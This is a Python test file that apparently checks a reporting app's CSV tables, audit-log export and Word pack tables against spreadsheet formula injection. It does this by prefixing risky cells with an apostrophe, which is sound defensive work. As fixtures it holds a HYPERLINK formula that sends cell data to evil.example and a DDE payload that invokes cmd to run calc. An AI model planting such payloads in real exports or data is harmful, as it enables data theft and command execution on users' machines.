"""No export hands a spreadsheet a formula: CSV tables (command line and app downloads), the
audit log's export and the committee pack's Word tables (OWASP CSV injection).

Ids and names come from imported files, and the audit log keeps whatever was typed into the
sign-in form's Name; a cell starting =, +, -, @, tab or carriage return gets a leading `'`.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
import pytest
from docx import Document

from loaders.episodes import load_episodes
from loaders.importer import import_file
from reports.audit import entries, entries_csv, record
from reports.pack import build_pack
from reports.tables import spreadsheet_safe, spreadsheet_text, to_csv
from tests.commands import run_module

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
HOME_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
HOME_NAME = "+Oak House"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("=1+1", "'=1+1"),
        ("+44 121", "'+44 121"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("EST062", "EST062"),
        ("Oak House = best", "Oak House = best"),
        ("<5", "<5"),
        ("*", "*"),
        ("", ""),
        (-1.5, -1.5),  # numbers are never changed: a float column stays numeric
        (-3, -3),
        (None, None),
    ],
)
def test_spreadsheet_text(value, expected):
    assert spreadsheet_text(value) == expected


def test_spreadsheet_safe_changes_text_cells_only():
    table = pd.DataFrame({"place": ["-B23", "B27"], "change": [-1.5, 2.0], "count": [-1, 3]})
    safe = spreadsheet_safe(table)
    assert safe["place"].tolist() == ["'-B23", "B27"]
    assert safe["change"].dtype == "float64" and safe["change"].tolist() == [-1.5, 2.0]
    assert safe["count"].tolist() == [-1, 3]
    assert table["place"].tolist() == ["-B23", "B27"]  # the input is not changed


def test_table_csv_neutralises_text_but_keeps_negative_numbers():
    """to_csv is what `reports table` prints and what every app table download holds (ui.display)."""
    table = pd.DataFrame({"place": [HYPERLINK, "B23"], "episodes": [6, 5], "percent": [-12.5, 40.0]})
    rows = list(csv.reader(io.StringIO(to_csv(table))))
    assert rows[1] == ["'" + HYPERLINK, "6", "-12.5"]
    assert rows[2] == ["B23", "5", "40.0"]


def import_payloads(engine, tmp_path) -> None:
    """Six missing episodes of one child from one home, all with formula ids and name."""
    source = tmp_path / "payloads.csv"
    with source.open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(
            [
                "episode_id",
                "child_id",
                "category",
                "reported_at",
                "returned_at",
                "missing_from",
                "placement_type",
                "establishment_id",
                "establishment_name",
                "from_postcode",
            ]
        )
        for day in range(2, 14, 2):
            writer.writerow(
                [
                    f"-E{day}",
                    HYPERLINK,
                    "missing",
                    f"2015-03-{day:02d} 10:00",
                    f"2015-03-{day:02d} 20:00",
                    "care",
                    "residential",
                    HOME_ID,
                    HOME_NAME,
                    "B23 6AA",
                ]
            )
    result = import_file(engine, source)
    assert result.outcome == "landed", result.messages


def test_reports_table_command_neutralises_ids(engine, tmp_path):
    import_payloads(engine, tmp_path)
    url = engine.url.render_as_string(hide_password=False)
    period = ["--from", "2015-03-01", "--to", "2015-03-31"]
    homes = run_module("reports", "table", "hotspots_establishment", *period, database_url=url)
    assert homes.returncode == 0, homes.stderr
    assert list(csv.reader(io.StringIO(homes.stdout)))[1] == ["'" + HOME_ID, "6", "1"]
    alerts = run_module("reports", "table", "triggers", *period, database_url=url)
    assert alerts.returncode == 0, alerts.stderr
    subjects = [row["subject"] for row in csv.DictReader(io.StringIO(alerts.stdout))]
    assert "'" + HYPERLINK in subjects and "'" + HOME_ID in subjects
    assert not any(subject.startswith(("=", "+", "-", "@")) for subject in subjects)


def test_audit_log_export_neutralises_a_name_typed_at_sign_in(engine):
    record(engine, HYPERLINK, "sign_in_failed", "password", {})
    record(engine, "alice", "export", "-table", {})
    rows = list(csv.DictReader(io.StringIO(entries_csv(entries(engine)))))
    assert {(row["user"], row["subject"]) for row in rows} == {("'" + HYPERLINK, "password"), ("alice", "'-table")}


def test_pack_word_tables_neutralise_names_and_ids(sqlite_engine, tmp_path):
    import_payloads(sqlite_engine, tmp_path)
    path = build_pack(load_episodes(sqlite_engine), date(2015, 3, 1), date(2015, 3, 31), tmp_path / "pack.docx")
    cells = [cell.text for table in Document(path).tables for row in table.rows for cell in row.cells]
    assert f"'{HOME_NAME} ({HOME_ID})" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
